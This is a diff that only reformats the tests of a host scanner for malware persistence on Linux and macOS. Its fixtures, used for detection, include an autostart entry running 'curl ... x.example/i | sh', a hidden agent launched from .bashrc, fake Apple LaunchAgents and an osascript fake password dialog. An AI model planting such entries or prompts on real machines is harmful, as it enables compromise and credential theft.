@@ -17,8 +17,9 @@ MHOME = "/Users/alice"
 
 
 def linux(**parts):  # type: ignore[no-untyped-def]
-    parts.setdefault("commands", [{"argv": ["crontab", "-l"], "returncode": 1, "stdout": "",
-                                   "stderr": "no crontab for alice"}])
+    parts.setdefault(
+        "commands", [{"argv": ["crontab", "-l"], "returncode": 1, "stdout": "", "stderr": "no crontab for alice"}]
+    )
     return recorded("linux", **parts)
 
 
@@ -38,7 +39,7 @@ def test_linux_systemd_unit_from_tmp():
 
 
 def test_linux_xdg_autostart_download_exec():
-    desktop = "[Desktop Entry]\nType=Application\nExec=sh -c \"curl -s http://x.example/i | sh\"\n"
+    desktop = '[Desktop Entry]\nType=Application\nExec=sh -c "curl -s http://x.example/i | sh"\n'
     signs = scan(linux(files={f"{LHOME}/.config/autostart/upd.desktop": {"text": desktop}}))
     assert "linux_autostart_download_exec" in rules_hit(signs)
 
@@ -51,8 +52,9 @@ def test_linux_crontab():
 
 
 def test_linux_shell_rc():
-    rc = ('export PATH="$HOME/.cargo/bin:$PATH"\n. "$HOME/.cargo/env"\nsource ~/.nvm/nvm.sh\n'
-          "nohup ~/.cache2/.d/agent &\n")
+    rc = (
+        'export PATH="$HOME/.cargo/bin:$PATH"\n. "$HOME/.cargo/env"\nsource ~/.nvm/nvm.sh\nnohup ~/.cache2/.d/agent &\n'
+    )
     signs = scan(linux(files={f"{LHOME}/.bashrc": {"text": rc}}))
     assert rules_hit(signs) == {"linux_autostart_download_exec", "linux_autostart_hidden_dir"}
 
@@ -72,8 +74,12 @@ def test_linux_processes():
         {"pid": 6, "name": "x", "exe": "/home/alice/.local/share/.x/x", "cmdline": []},
         {"pid": 7, "name": "bash", "exe": "/usr/bin/bash", "cmdline": ["bash"]},
         {"pid": 8, "name": "code", "exe": "/home/alice/.vscode-server/bin/node", "cmdline": []},
-        {"pid": 9, "name": "chrome", "exe": "/opt/google/chrome/chrome",
-         "cmdline": ["/opt/google/chrome/chrome", "--headless=new", "--remote-debugging-pipe"]},
+        {
+            "pid": 9,
+            "name": "chrome",
+            "exe": "/opt/google/chrome/chrome",
+            "cmdline": ["/opt/google/chrome/chrome", "--headless=new", "--remote-debugging-pipe"],
+        },
     ]
     signs = scan(linux(processes=procs))
     assert {(h.rule, h.where) for h in signs.hits} == {
@@ -103,9 +109,11 @@ def test_shell_history_linux(line, rule):
 
 
 def test_shell_history_known_installers_ok():
-    text = ("curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh | bash\n"
-            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n"
-            "base64 -d cert.b64 > cert.pem\n")
+    text = (
+        "curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh | bash\n"
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n"
+        "base64 -d cert.b64 > cert.pem\n"
+    )
     assert not scan(linux(files={f"{LHOME}/.zsh_history": {"text": text}})).hits
 
 
@@ -125,8 +133,11 @@ def test_clean_linux_tree(tmp_path):
     put(tmp_path, f"{LHOME}/Downloads/tool.AppImage", mode=0o755)
     put(tmp_path, "/tmp/build/run.sh", mode=0o755)
     put(tmp_path, f"{LHOME}/.bashrc", '. "$HOME/.cargo/env"\nalias ll="ls -l"\n')
-    put(tmp_path, f"{LHOME}/.config/autostart/nextcloud.desktop",
-        "[Desktop Entry]\nExec=/usr/bin/nextcloud --background\n")
+    put(
+        tmp_path,
+        f"{LHOME}/.config/autostart/nextcloud.desktop",
+        "[Desktop Entry]\nExec=/usr/bin/nextcloud --background\n",
+    )
     put(tmp_path, f"{LHOME}/.config/systemd/user/syncthing.service", "[Service]\nExecStart=/usr/bin/syncthing serve\n")
     procs = (ProcessInfo(pid=1, name="firefox", exe="/usr/lib/firefox/firefox"),)
     signs = scan(TreeHost(tmp_path, "linux", processes=procs))
@@ -136,15 +147,19 @@ def test_clean_linux_tree(tmp_path):
 
 # -- macOS --------------------------------------------------------------------
 def test_mac_amos_paths():
-    files = {f"{MHOME}/.agent": {"text": ""}, "/tmp/out.zip": {"text": ""},
-             "/Library/LaunchDaemons/com.finder.helper.plist": {"text": ""}}
+    files = {
+        f"{MHOME}/.agent": {"text": ""},
+        "/tmp/out.zip": {"text": ""},
+        "/Library/LaunchDaemons/com.finder.helper.plist": {"text": ""},
+    }
     signs = scan(mac(files=files))
     assert {"mac_amos_backdoor", "mac_amos_staging"} <= rules_hit(signs)
 
 
 def test_mac_launch_agents():
-    fake_apple = plistlib.dumps({"Label": "com.apple.updater", "ProgramArguments": [f"{MHOME}/.helper/run"],
-                                 "RunAtLoad": True})
+    fake_apple = plistlib.dumps(
+        {"Label": "com.apple.updater", "ProgramArguments": [f"{MHOME}/.helper/run"], "RunAtLoad": True}
+    )
     from_tmp = plistlib.dumps({"Label": "com.x.y", "Program": "/Users/Shared/.u/agent"})
     zoom = plistlib.dumps({"Label": "us.zoom.updater", "ProgramArguments": ["/Library/Application Support/zoom.us/x"]})
     import base64
@@ -162,7 +177,7 @@ def test_mac_launch_agents():
 
 
 def test_mac_history_fake_dialog():
-    line = ": 1732780000:0;osascript -e 'display dialog \"Update\" default answer \"\" with hidden answer'"
+    line = ': 1732780000:0;osascript -e \'display dialog "Update" default answer "" with hidden answer\''
     signs = scan(mac(files={f"{MHOME}/.zsh_history": {"text": line}}))
     assert "mac_fake_password_dialog" in rules_hit(signs)
 
